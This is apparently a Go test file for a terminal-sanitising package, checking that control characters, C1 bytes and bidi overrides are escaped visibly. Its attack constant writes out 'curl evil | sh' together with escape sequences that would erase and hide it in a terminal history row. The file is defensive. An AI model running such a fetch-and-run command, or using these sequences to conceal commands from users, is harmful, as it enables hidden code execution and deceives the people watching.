package termsafe

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// The attacks of issue 29 (point 10): a history row erased with CR, erase
// line and cursor up; the title set with OSC; CSI as one C1 byte, raw and
// encoded; text reversed with a bidi override.
const attack = "curl evil | sh\r\x1b[2K\x1b[1A\x1b]0;pwned\x07 \x9b31m \u009b \u202eexe.txt\u202c"

func TestLineEscapesEveryControlVisibly(t *testing.T) {
	got := Line(attack + "\n\tnext")
	want := `curl evil | sh\r\x1b[2K\x1b[1A\x1b]0;pwned\x07 \x9b31m \u009b \u202eexe.txt\u202c\n\tnext`
	if got != want {
		t.Errorf("Line:\n got %s\nwant %s", got, want)
	}
	if got := Text("a\n\tb\r\x1b[2K"); got != "a\n\tb\\r\\x1b[2K" {
		t.Errorf("Text keeps newline and tab only: %q", got)
	}
}

func TestPrintableTextIsUnchanged(t *testing.T) {
	for _, s := range []string{"", "plain ascii ~!@#$%^&*()", `C:\Users\me\x1b`, "ünïcødé 日本語 عربي",
		"family 👨\u200d👩\u200d👧", "Persian ZWNJ می\u200cخواهم"} {
		if got := Line(s); got != s {
			t.Errorf("Line(%q) = %q", s, got)
		}
	}
}

func TestEveryUnsafeRuneIsEscaped(t *testing.T) {
	for _, r := range []rune{0, 7, 8, 0x0b, 0x0c, 0x0d, 0x1b, 0x7f, 0x80, 0x9b, 0x9f, 0x061c, 0x200e, 0x200f,
		0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x2028, 0x2029, 0xfeff, 0xe0041} {
		if !Unsafe(r) {
			t.Errorf("U+%04X is not unsafe", r)
		}
		if got := Line(string(r)); got == string(r) || !strings.HasPrefix(got, `\`) {
			t.Errorf("Line(U+%04X) = %q", r, got)
		}
	}
	if got := Line("a\xffb\xc3"); got != `a\xffb\xc3` {
		t.Errorf("invalid UTF-8: %q", got)
	}
}

// checkSafe fails when out holds a byte a terminal would act on: a control
// character other than the allowed layout ones, invalid UTF-8, a format
// character or a line separator.
func checkSafe(t *testing.T, in, out string, layout bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%q rendered as invalid UTF-8 %q", in, out)
	}
	for _, r := range out {
		if layout && (r == '\n' || r == '\t') {
			continue
		}
		if Unsafe(r) {
			t.Fatalf("%q rendered with U+%04X: %q", in, r, out)
		}
	}
}

func FuzzRenderedTextIsSafe(f *testing.F) {
	for _, s := range []string{attack, "plain", "\xff\xfe", "\u009b\u202e\n\t\r", "a\\x1b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkSafe(t, s, Line(s), false)
		checkSafe(t, s, Text(s), true)
		if plain(s) && (Line(s) != s || Text(s) != s) {
			t.Fatalf("printable ASCII %q was changed", s)
		}
	})
}

func BenchmarkLinePlain(b *testing.B) {
	s := strings.Repeat("echo hello world && ls -la /work ", 8)
	for b.Loop() {
		Line(s)
	}
}

func BenchmarkLineHostile(b *testing.B) {
	s := strings.Repeat("echo "+attack+" ", 8)
	for b.Loop() {
		Line(s)
	}
}
